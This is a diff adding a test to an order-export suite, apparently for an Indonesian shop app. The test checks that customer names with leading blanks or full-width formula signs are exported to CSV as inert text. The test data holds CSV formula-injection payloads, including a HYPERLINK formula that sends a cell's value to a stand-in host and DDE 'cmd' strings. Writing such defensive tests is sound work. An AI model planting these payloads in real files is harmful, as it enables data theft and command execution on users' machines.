@@ -304,6 +304,26 @@ describe('export of text a customer typed', () => {
     expect(row(sly.id)).toContain(`,"'=HYPERLINK(""https://contoh.id/?d=""&E2,""Klik"")",+6281234567890,"'@SUM(A1:A9) Jl. Melati, `);
     expect(row(sly2.id)).toContain(`,'-2+3+cmd|' /C calc'!A0,081234567890,"'+Jl. Kenanga 3, `);
   });
+
+  it('when a name starts with a space, a no-break space, a line break or a full-width formula sign before the formula, then it is kept as text too', async () => {
+    // Spreadsheets skip leading blanks before a formula, and an IME's full-width '＝' / '＋' / '－' / '＠' starts one.
+    const names = [' =1+1', '\u00a0=1+1', '\u3000=1+1', '\n=1+1', '\t@SUM(A1)', '\r-1+cmd|x', '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', '﹦1+1', ' \u00a0 +cmd|x'];
+    // Placed a week ago, so their line breaks stay out of the other tests' export of today.
+    const weekAgo = Date.now() - 7 * 86_400_000;
+    const day = new Date(weekAgo + 7 * 3600_000).toISOString().slice(0, 10);
+    const docs = names.map((userName) => transactionDoc(sariId, { userName, createdAt: weekAgo }));
+    const res = await pushNew(sari, 'transactions', docs);
+    expect(res.body.refused).toEqual([]);
+    const stored = new Map((await pullAll(admin, 'transactions', 1000)).docs.map((d) => [d.id, d.userName]));
+    const text = (await download(admin, `/api/orders.csv?from=${day}&to=${day}`)).bytes.toString('utf8');
+    for (const doc of docs) {
+      const typed = stored.get(doc.id) as string;
+      // As typed, behind an apostrophe, quoted as CSV quotes it when it holds a line break.
+      const cell = /[\n\r"]/.test(typed) ? `"'${typed.replace(/"/g, '""')}"` : `'${typed}`;
+      expect(text, JSON.stringify(typed)).toContain(`${doc.id},`);
+      expect(text, JSON.stringify(typed)).toContain(`,${cell},`);
+    }
+  });
 });
 
 describe('export as an Excel workbook', () => {
